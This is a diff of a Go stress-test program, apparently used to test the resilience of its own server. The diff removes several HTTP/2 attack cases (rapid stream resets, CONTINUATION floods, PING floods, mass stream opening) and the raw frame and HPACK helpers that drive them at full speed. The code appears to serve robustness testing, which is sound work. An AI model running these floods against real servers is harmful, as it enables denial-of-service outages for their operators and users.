@@ -3,11 +3,8 @@
 package main
 
 import (
-	"bufio"
-	"bytes"
 	"context"
 	"encoding/base64"
-	"encoding/binary"
 	"errors"
 	"fmt"
 	"io"
@@ -129,26 +126,6 @@ var malforming = []attack{
 		_, _ = c.Write(nil)
 		return c
 	})},
-	{name: "rapid resets", tls: true, run: streams(func(to *bufio.Writer, i int) {
-		id := uint32(2*i + 1)
-		h2Frame(to, 1, 0x5, id, h2Headers)
-		h2Frame(to, 3, 0, id, []byte{0, 0, 0, 8})
-	})},
-	{name: "continuations", tls: true, run: streams(func(to *bufio.Writer, i int) {
-		if i == 0 {
-			h2Frame(to, 1, 0x1, 1, h2Headers)
-		}
-		h2Frame(to, 9, 0, 1, h2Literal("x", strings.Repeat("y", 1000)))
-	})},
-	{name: "pings of HTTP/2", tls: true, run: streams(func(to *bufio.Writer, _ int) {
-		h2Frame(to, 6, 0, 0, make([]byte, 8))
-		h2Frame(to, 4, 0, 0, nil)
-	})},
-	{name: "streams of HTTP/2", tls: true, run: streams(func(to *bufio.Writer, i int) {
-		if i < 20_000 {
-			h2Frame(to, 1, 0x5, uint32(2*i+1), h2Events)
-		}
-	})},
 	{name: "a deaf webhook", flags: deafWebhook, run: talk(20, 300, func(n, i int) []byte {
 		return text(`{"type":"%s","page":"hooked %d/%d"}`, []string{"join", "leave"}[i%2], n, i/2%50)
 	})},
@@ -203,61 +180,3 @@ func visiting(visitors int, call func(ctx context.Context, api *client.API, visi
 		wg.Wait()
 	}
 }
-
-// streams sends what say writes on connections of HTTP/2, as fast as the server takes it.
-func streams(say func(to *bufio.Writer, i int)) func(context.Context, string) {
-	return func(ctx context.Context, addr string) {
-		var wg sync.WaitGroup
-		for range 4 {
-			wg.Go(func() {
-				for ctx.Err() == nil {
-					c, err := connect(nil, addr, patience, "h2")
-					if err != nil {
-						time.Sleep(100 * time.Millisecond)
-						continue
-					}
-					wg.Go(func() { _, _ = io.Copy(io.Discard, c) }) // ends with the connection
-					stop := context.AfterFunc(ctx, func() { _ = c.Close() })
-					to := bufio.NewWriter(c)
-					_, _ = to.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
-					h2Frame(to, 4, 0, 0, nil)
-					paced(ctx, 20_000, func(i int) bool {
-						say(to, i)
-						return i%64 < 63 || to.Flush() == nil
-					})
-					stop()
-					_ = c.Close()
-				}
-			})
-		}
-		wg.Wait()
-	}
-}
-
-func h2Frame(to *bufio.Writer, kind, flags byte, stream uint32, payload []byte) {
-	head := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
-	head = append(head, flags)
-	_, _ = to.Write(binary.BigEndian.AppendUint32(head, stream)) // Flush tells
-	_, _ = to.Write(payload)
-}
-
-// h2Literal is a field as HPACK has it without tables and without Huffman's code.
-func h2Literal(name, value string) []byte {
-	b := append([]byte{0, byte(len(name))}, name...)
-	if len(value) < 127 {
-		b = append(b, byte(len(value)))
-	} else {
-		n := len(value) - 127
-		for b = append(b, 127); n >= 128; n /= 128 {
-			b = append(b, byte(n%128+128))
-		}
-		b = append(b, byte(n))
-	}
-	return append(b, value...)
-}
-
-func h2Request(path string) []byte {
-	return bytes.Join([][]byte{h2Literal(":method", "GET"), h2Literal(":scheme", "https"), h2Literal(":path", path), h2Literal(":authority", "h")}, nil)
-}
-
-var h2Headers, h2Events = h2Request("/a/counter"), h2Request("/a/counter/events")
